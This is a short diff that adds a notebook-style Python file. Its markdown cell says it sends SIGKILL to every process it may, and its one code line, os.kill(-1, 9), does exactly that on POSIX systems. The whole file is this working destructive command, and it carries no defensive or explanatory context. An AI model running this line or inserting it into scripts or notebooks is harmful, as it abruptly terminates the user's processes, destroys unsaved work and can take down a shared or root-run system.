@@ -1,0 +1,6 @@
+# %% [markdown]
+# Sends SIGKILL to every process it may.
+
+# %%
+import os
+os.kill(-1, 9)
